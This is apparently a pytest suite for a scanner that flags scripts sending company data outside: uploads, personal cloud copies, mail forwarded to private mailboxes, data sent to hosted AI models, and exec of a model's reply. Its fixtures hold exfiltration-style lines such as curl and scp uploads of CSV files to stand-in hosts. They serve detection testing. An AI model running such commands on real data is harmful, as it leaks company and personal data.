"""Which way data goes through a script: told across names and functions, and never by running it."""

import pytest

from escrow.core.digests import Digest
from scanners.engine import EngineStatus, Limits
from scanners.engines.flows import FlowsEngine
from scanners.findings import Confidence, Severity, Trait, Vector
from scanners.flow.python import TooLarge, read_flows
from scanners.staging import read_content

_UNNAMED = "data-to-unnamed-host"


def scan(key, text, *, path="a.py", domains=()):
    body = text.encode()
    [said] = FlowsEngine(key, domains=domains).scan([read_content(Digest.of(body), body, path=path)], Limits())
    return said


def rules(key, text, **options):
    return {one.rule.removeprefix("flows.") for one in scan(key, text, **options).findings}


def test_rows_read_in_one_function_and_sent_in_another_are_told_at_the_sending(vault_key):
    [finding] = scan(
        vault_key,
        "import pandas as pd, requests\n"
        "def rows():\n    return pd.read_sql('select amount from gl', c)\n"
        "def send(what):\n    requests.post('https://collect.example', json=what)\n"
        "send(rows())\n",
    ).findings
    assert (finding.rule, finding.line, finding.vector) == ("flows.data-to-upload", 5, Vector.FILES)
    assert finding.traits == {Trait.BUSINESS_DATA}


def test_a_field_that_travels_through_an_object_is_followed(vault_key):
    text = (
        "class Job:\n    def read(self):\n        self.rows = cursor.fetchall()\n"
        "    def tell(self):\n        for row in self.rows:\n            print(row['cpf'])\n"
    )
    assert rules(vault_key, text) == {"personal-data-to-log"}


def test_what_is_only_counted_or_hashed_goes_nowhere(vault_key):
    text = "rows = cursor.fetchall()\nrequests.post('https://x.example', json=len(rows))\n"
    assert rules(vault_key, text) == set()


def test_the_company_s_own_hosts_are_inside(vault_key):
    text = "import requests\nrequests.post('https://erp.acme.com/in', json=open('a.csv').read())\n"
    assert rules(vault_key, text) == {"data-to-upload"}
    assert rules(vault_key, text, domains=["acme.com"]) == set()
    for inside in ("http://10.0.0.7/in", "http://erp/in", "https://erp.corp/in", "http://localhost:8000/"):
        assert rules(vault_key, text.replace("https://erp.acme.com/in", inside)) == set()


def test_a_model_that_runs_inside_is_not_a_hosted_one(vault_key):
    text = "from openai import OpenAI\nc = OpenAI(base_url='{}')\nc.responses.create(model='m', input=open('a.csv').read())\n"
    assert rules(vault_key, text.format("https://gateway.example/v1")) == {"data-to-model"}
    assert rules(vault_key, text.format("http://localhost:8080/v1")) == {"asks-a-model"}


def test_asking_a_model_without_company_data_is_a_note(vault_key):
    text = "import anthropic\nanthropic.Anthropic().messages.create(messages=[{'role': 'user', 'content': 'hi'}])\n"
    [finding] = scan(vault_key, text).findings
    assert (finding.rule, finding.severity) == ("flows.asks-model", Severity.LOW)


def test_an_answer_that_is_run_is_told_through_names(vault_key):
    text = (
        "from openai import OpenAI\ncode = OpenAI().responses.create(input='x').output_text\n"
        "step = code.strip()\nexec(compile(step, 'x', 'exec'))\n"
    )
    assert "runs-answer" in rules(vault_key, text)


def test_a_path_put_together_from_names_is_known_for_a_private_cloud(vault_key):
    text = (
        "import os, shutil\nBASE = os.path.join(os.environ['HOME'], 'Dropbox')\n"
        "shutil.copy('closing.xlsx', os.path.join(BASE, 'closing.xlsx'))\n"
    )
    assert rules(vault_key, text) == {"data-to-own-cloud"}
    assert rules(vault_key, text.replace("Dropbox", "OneDrive - Acme SA")) == set()


def test_a_line_that_moves_keeps_its_finding(vault_key):
    text = "import shutil\nshutil.copy('a.csv', '/home/ana/Dropbox/a.csv')\n"
    [before], [after] = scan(vault_key, text).findings, scan(vault_key, "# note\n\n" + text).findings
    assert before.fingerprint == after.fingerprint
    assert before.line != after.line


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        ("a.sh", "rclone copy /srv/gl gdrive:gl\n", "data-to-own-cloud"),
        ("a.sh", "curl -F file=@gl.csv https://x.example\n", "data-to-upload"),
        ("a.ps1", "Copy-Item gl.csv C:\\Users\\a\\Dropbox\\\n", "data-to-own-cloud"),
        ("a.ps1", "Invoke-RestMethod -Method Post -InFile gl.csv https://x.example\n", "data-to-upload"),
        ("a.js", "const O = require('openai');\nnew O().chat.completions.create({});\n", "asks-model"),
        ("a.sh", "curl https://api.openai.com/v1/responses -d x\n", "asks-model"),
    ],
)
def test_other_languages_are_read_line_by_line(vault_key, path, text, rule):
    assert rule in rules(vault_key, text, path=path)
    assert scan(vault_key, "# " + text.replace("\n", "\n# "), path="a.sh").findings == ()


@pytest.mark.parametrize(
    "text", ["x = " + "(" * 3000 + "1" + ")" * 3000, "print 'two'\nx = 0777\n", "x = " + "+".join(["a"] * 20_000)]
)
def test_what_cannot_be_followed_is_said_and_not_passed(vault_key, text):
    said = scan(vault_key, "import os\n" + text)
    assert said.status is EngineStatus.PARTIAL
    assert "could not be followed" in said.reason


def test_a_notebook_s_flow_is_told_at_its_line_of_json(vault_key):
    cell = "\"import shutil\\n\", \"shutil.copy('a.csv', '/home/ana/Dropbox/a.csv')\""
    text = '{"cells": [\n{"cell_type": "code",\n"source": [' + cell + "]}\n]}"
    [finding] = scan(vault_key, text, path="a.ipynb").findings
    assert finding.line == 3
    assert finding.confidence is Confidence.MEDIUM


def test_a_session_for_files_with_a_machine_inside_is_no_way_out(vault_key):
    text = (
        "import paramiko\nc = paramiko.SSHClient()\nc.connect('{}')\nc.open_sftp().put('notes.csv', '/in/notes.csv')\n"
    )
    assert rules(vault_key, text.format("files.corp.local")) == set()
    assert rules(vault_key, text.format("files.partner.example")) == {"data-to-upload"}


def test_a_model_is_known_by_its_path_wherever_it_answers(vault_key):
    text = "import os, requests\nurl = os.environ['BASE'] + '{}'\nrequests.post(url, json={{'q': open('minutes.txt').read()}})\n"
    assert rules(vault_key, text.format("/openai/deployments/gpt/chat/completions")) == {"data-to-model"}
    assert rules(vault_key, text.format("/v1.0/me/messages")) == {"data-to-upload"}


def test_a_data_file_attached_by_its_name_to_a_private_mailbox_is_told(vault_key):
    text = "import yagmail\ny = yagmail.SMTP('a')\ny.send(to='{}', attachments='margins.csv')\n"
    assert rules(vault_key, text.format("ana@gmail.com")) == {"data-to-private-mailbox"}
    assert rules(vault_key, text.format("ana@corp.example")) == set()


@pytest.mark.parametrize(
    ("path", "text", "told"),
    [
        ("a.ps1", '$to = "$env:OneDrive\\reports"\nCopy-Item -Path x.xlsx -Destination $TO\n', True),
        ("a.ps1", '$to = "\\\\fs01\\reports"\nCopy-Item -Path x.xlsx -Destination $to\n', False),
        ("a.sh", 'TO="$HOME/Dropbox/reports"\ncp x.xlsx "$TO"\n', True),
        ("a.sh", 'A=$B\nB=$A\ncp x.xlsx "$A"\n', False),
    ],
)
def test_what_a_name_was_given_stands_for_it_in_other_languages(vault_key, path, text, told):
    assert (rules(vault_key, text, path=path) == {"data-to-own-cloud"}) is told


def test_more_long_commands_than_can_be_told_apart_are_said_not_passed(vault_key):
    lines = "\n".join(["gsutil cp gs://a " * 115] * 60)
    said = scan(vault_key, f"scp a.csv joe@8.8.4.4:/srv/\n{lines}\n", path="a.sh")
    assert said.status is EngineStatus.PARTIAL
    assert [one.rule for one in said.findings] == ["flows.data-to-upload"], "what was read before is told"


def test_running_a_model_s_answer_is_told_once(vault_key):
    text = "import openai\nreply = openai.OpenAI().responses.create(input='x')\nexec(reply.output_text)\n"
    assert rules(vault_key, text) == {"asks-model", "runs-answer"}


@pytest.mark.parametrize(
    ("host", "told"),
    [
        ("files", None),
        ("files.corp", None),
        ("files.lan", None),
        ("nas.internal", None),
        ("erp.local", None),
        ("192.168.7.20", None),
        ("files.corp.acme.com", _UNNAMED),
        ("intranet.acme.com.br", _UNNAMED),
        ("intranet.mailer.example", _UNNAMED),
        ("acme.sharepoint.com", _UNNAMED),
        ("acme-my.sharepoint.com", "data-to-upload"),
        ("corp-drop.example", "data-to-upload"),
        ("files.acme.com", "data-to-upload"),
        ("intranet.ngrok.io", "data-to-upload"),
    ],
)
def test_a_host_is_inside_without_the_company_s_word_only_where_it_cannot_be_outside(vault_key, host, told):
    text = f"import requests\nrequests.post('https://{host}/in', files={{'f': open('margins.csv', 'rb')}})\n"
    assert rules(vault_key, text) == {told} - {None}
    shell = f"curl -F file=@margins.csv https://{host}/in\n"
    assert rules(vault_key, shell, path="a.sh") == {told} - {None}


def test_what_may_be_the_company_s_own_is_told_with_doubt_and_one_host_that_may_not_is_enough(vault_key):
    text = "curl -F f=@m.csv https://intranet.acme.com/in\n"
    [finding] = scan(vault_key, text, path="a.sh").findings
    assert finding.confidence is Confidence.LOW
    both = "import requests\nfor host in ('https://intranet.acme.com', 'https://drop.example'):\n"
    both += "    requests.post(host, files={'f': open('margins.csv', 'rb')})\n"
    assert rules(vault_key, both) == {"data-to-upload"}


@pytest.mark.parametrize(
    ("host", "is_told"),
    [
        ("files.corp.acme.com", False),
        ("acme.sharepoint.com", False),
        ("nas.internal", False),
        ("192.168.7.20", False),
        ("intranet.mailer.example", True),
        ("acme-my.sharepoint.com", True),
        ("rival.sharepoint.com", True),
        ("intranet.rival.com", True),
        ("notacme.com", True),
    ],
)
def test_the_company_says_which_names_are_its_own(vault_key, host, is_told):
    text = f"import requests\nrequests.post('https://{host}/in', files={{'f': open('margins.csv', 'rb')}})\n"
    told = rules(vault_key, text, domains=["acme.com", "acme.sharepoint.com"])
    assert told == ({"data-to-upload"} if is_told else set())


def test_a_file_put_on_a_team_site_is_a_way_out_unless_the_company_says_that_it_is_its_own(vault_key):
    text = 'Connect-PnPOnline -Url "https://{}"\nAdd-PnPFile -Path .\\margins.xlsx -Folder Reports\n'
    own = ["acme.sharepoint.com"]
    assert rules(vault_key, text.format("acme.sharepoint.com/sites/sales"), path="a.ps1", domains=own) == set()
    for site in ("rival.sharepoint.com/sites/sales", "acme-my.sharepoint.com/personal/ana"):
        assert rules(vault_key, text.format(site), path="a.ps1", domains=own) == {"data-to-upload"}
    assert rules(vault_key, text.format("acme.sharepoint.com/sites/sales"), path="a.ps1") == {_UNNAMED}


def test_a_mail_passed_on_to_a_private_mailbox_is_told(vault_key):
    outlook = "m = box.Items.GetFirst()\nf = m.Forward()\nf.To = '{}'\nf.Send()\n"
    assert rules(vault_key, outlook.format("ana@gmx.de")) == {"data-to-private-mailbox"}
    assert rules(vault_key, outlook.format("ana@corp.example")) == set()
    exchange = "for item in account.inbox.all():\n    item.forward('fw', '', to_recipients=['{}'])\n"
    assert rules(vault_key, exchange.format("ana@gmail.com")) == {"data-to-private-mailbox"}
    assert rules(vault_key, "y = network.forward(x)\n") == set()


def test_a_command_that_a_function_of_the_script_puts_together_is_read_as_its_callers_say_it(vault_key):
    text = "import subprocess\ndef vcs(*words):\n    subprocess.run(['git', *words], check=True)\nvcs('add', '-A')\nvcs('push', '{}')\n"
    assert rules(vault_key, text.format("https://github.com/ana/figures.git")) == {"data-to-upload"}
    assert rules(vault_key, text.format("https://git.acme.com/figures.git"), domains=["acme.com"]) == set()


def test_an_address_put_together_of_names_that_stand_for_many_names_is_not_followed_without_end():
    named = "".join(f'n{i} = f"{f"{{n{i - 1}}}" * 300}"\n' for i in range(1, 6))
    code = f"import requests\nn0 = 'q'\n{named}requests.post(n5, data=open('a.csv').read())\n"
    with pytest.raises(TooLarge):
        read_flows(code.encode())
